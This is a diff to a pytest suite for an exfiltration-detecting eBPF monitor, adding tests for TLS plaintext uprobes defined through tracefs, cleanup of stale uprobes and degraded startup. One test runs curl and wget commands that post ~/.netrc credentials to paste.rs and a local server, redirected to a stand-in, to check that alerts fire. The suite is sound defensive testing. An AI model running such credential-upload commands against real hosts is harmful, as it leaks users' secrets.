@@ -9,7 +9,7 @@ import subprocess
 
 import pytest
 
-from harness import Monitor, paths, wait_until
+from harness import Monitor, paths, run_scenario, wait_until
 from harness.records import action, get, kind
 
 CAP_SYS_PTRACE = 1 << 19
@@ -31,8 +31,28 @@ def with_caps(caps, argv):
     return ["setpriv", f"--bounding-set=-all,{caps}", "--inh-caps=-all", *argv]
 
 
+TLS_HOOKS = [f"{kind}/{target}" for kind in ("uprobe", "uretprobe")
+             for target in ("libssl.so.3:SSL_write", "libssl.so.3:SSL_write_ex",
+                            "libgnutls.so.30:gnutls_record_send")]
+
+
 def tls_uprobe(hook):
     return hook["name"].split("/")[0] in ("uprobe", "uretprobe") and "attach failed" in hook["reason"]
+
+
+def define(line):
+    """One line written to tracefs's uprobe_events (a definition, or "-:group/name" to remove one)."""
+    fd = os.open("/sys/kernel/tracing/uprobe_events", os.O_WRONLY | os.O_APPEND)
+    try:
+        os.write(fd, (line + "\n").encode())
+    finally:
+        os.close(fd)
+
+
+def tracefs_uprobes(pid):
+    """The uprobe definitions a monitor with this pid holds in tracefs (exfilwatch/ew_<pid>_N)."""
+    with open("/sys/kernel/tracing/uprobe_events") as handle:
+        return [line for line in handle if f"exfilwatch/ew_{pid}_" in line]
 
 
 def test_root_run_keeps_only_sys_ptrace(monitor):
@@ -51,10 +71,10 @@ def test_runs_with_exactly_the_documented_capabilities(tmp_path):
     mon = Monitor(tmp_path, events="exec", extra_args=["--stats-interval", "1"])
     mon.argv = with_caps(START_CAPS, mon.argv)
     with mon:
-        degraded = get(mon.started_record, "exfilwatch.hooks.degraded")
-        # Known gap: the TLS plaintext uprobes are refused (EACCES) under exactly these
-        # capabilities, though they attach as root; they degrade and say so, the rest attaches.
-        assert all(tls_uprobe(d) for d in degraded), degraded
+        # Every hook, the TLS plaintext uprobes too: Linux 6.16+ refuses the uprobe PMU without
+        # CAP_SYS_ADMIN, so they are defined through tracefs (README, Privileges).
+        assert get(mon.started_record, "exfilwatch.hooks.degraded") == []
+        assert set(TLS_HOOKS) <= set(get(mon.started_record, "exfilwatch.hooks.attached")), mon.started_record
         caps = caps_of(mon.pid)
         assert caps["CapEff"] == caps["CapPrm"] == CAP_SYS_PTRACE, {k: hex(v) for k, v in caps.items()}
         subprocess.run(["/bin/true", "least-privilege"], check=True)
@@ -62,6 +82,35 @@ def test_runs_with_exactly_the_documented_capabilities(tmp_path):
                      what="an exec seen under least privilege")
         mon.wait_for(lambda r: kind(r) == "metric" and get(r, "exfilwatch.stats.kernel.records.exec", 0) > 0,
                      what="kernel counters read after the drop")
+
+
+def netrc_scan(record, source):
+    """A content-scan record of `source` (openssl, gnutls) that found ~/.netrc's fingerprint."""
+    return action(record) == "content-scan" and get(record, "exfilwatch.content.source") == source and any(
+        m["path"].endswith("/.netrc") for m in get(record, "exfilwatch.content.matches", []))
+
+
+def test_tls_plaintext_is_matched_under_exactly_the_documented_capabilities(tmp_path, fake_home, standin):
+    """Content matching works where the DaemonSet runs: curl (OpenSSL) and wget (GnuTLS) posting
+    ~/.netrc over TLS are seen in the plaintext by a monitor with only BPF, PERFMON, NET_ADMIN and
+    SYS_PTRACE, and alert on the content; its tracefs uprobes are gone when it stops."""
+    mon = Monitor(tmp_path / "mon", events="content")
+    mon.argv = with_caps(START_CAPS, mon.argv)
+    port = standin.https_port
+    with mon:
+        assert set(TLS_HOOKS) <= set(get(mon.started_record, "exfilwatch.hooks.attached")), mon.started_record
+        assert len(tracefs_uprobes(mon.pid)) == len(TLS_HOOKS)
+        run_scenario(f"curl -sS -k --resolve paste.rs:{port}:127.0.0.1 -o /dev/null "
+                     f"--data-binary @$HOME/.netrc https://paste.rs:{port}/", fake_home.env()).check("curl")
+        run_scenario(f"wget -q -O /dev/null --no-check-certificate --post-file=$HOME/.netrc "
+                     f"--execute=use_proxy=off https://127.0.0.1:{port}/", fake_home.env()).check("wget")
+        for source in ("openssl", "gnutls"):
+            mon.wait_for(lambda r, source=source: netrc_scan(r, source), what=f"a {source} scan matching ~/.netrc")
+        mon.wait_for(lambda r: kind(r) == "alert" and any(
+            s.get("name") == "content-match" for s in get(r, "exfilwatch.signals", [])),
+            what="an alert with a content-match signal")
+        pid = mon.pid
+    assert tracefs_uprobes(pid) == []
 
 
 @pytest.mark.parametrize("caps,missing", [("+bpf,+perfmon", "CAP_NET_ADMIN"),
@@ -95,6 +144,46 @@ def test_without_tracefs_the_syscall_hooks_degrade_and_say_why(tmp_path):
         subprocess.run(["/bin/true", "degraded-run"], check=True)
         mon.wait_for(lambda r: action(r) == "exec" and "degraded-run" in (get(r, "process.args") or []),
                      what="an exec seen by the hooks that did attach")
+
+
+def test_definitions_a_killed_monitor_left_are_removed_at_the_next_start(tmp_path):
+    """A monitor killed (SIGKILL, OOM) cannot remove its tracefs uprobes: the next start removes
+    those of pids that run no more, and leaves a live one's alone."""
+    dead = subprocess.Popen(["/bin/true"])
+    dead.wait()
+    library = "/usr/lib/x86_64-linux-gnu/libssl.so.3"
+    left = [f"p:exfilwatch/ew_{dead.pid}_0 {library}:0x0", f"r:exfilwatch/ew_{dead.pid}_1 {library}:0x0"]
+    alive = f"p:exfilwatch/ew_{os.getpid()}_0 {library}:0x0"  # this test's own pid: alive
+    for line in [*left, alive]:
+        define(line)
+    try:
+        assert len(tracefs_uprobes(dead.pid)) == 2
+        mon = Monitor(tmp_path, events="exec")
+        mon.argv = with_caps(START_CAPS, mon.argv)
+        with mon:
+            assert tracefs_uprobes(dead.pid) == []
+            assert len(tracefs_uprobes(os.getpid())) == 1
+    finally:
+        for name in (f"ew_{os.getpid()}_0", f"ew_{dead.pid}_0", f"ew_{dead.pid}_1"):
+            try:
+                define(f"-:exfilwatch/{name}")
+            except OSError:
+                pass  # already gone
+
+
+def test_read_only_tracefs_degrades_the_tls_uprobes_and_says_why(tmp_path):
+    """tracefs read-only (the DaemonSet before its mount was made read-write) and no
+    CAP_SYS_ADMIN: the TLS uprobes cannot be defined and say so with the fix; the syscall
+    tracepoints, which only read tracefs, attach."""
+    mon = Monitor(tmp_path, events="exec")
+    mon.argv = ["unshare", "-m", "--propagation", "private", "sh", "-c",
+                'mount -o remount,bind,ro /sys/kernel/tracing && exec "$@"', "sh", *with_caps(START_CAPS, mon.argv)]
+    with mon:
+        degraded = get(mon.started_record, "exfilwatch.hooks.degraded")
+        assert sorted(d["name"] for d in degraded) == sorted(TLS_HOOKS), degraded
+        for hook in degraded:
+            assert "Read-only file system" in hook["reason"] and "read-write" in hook["reason"], hook
+        assert any(h.startswith("tp/syscalls/") for h in get(mon.started_record, "exfilwatch.hooks.attached"))
 
 
 def test_without_btf_the_error_says_what_is_needed():
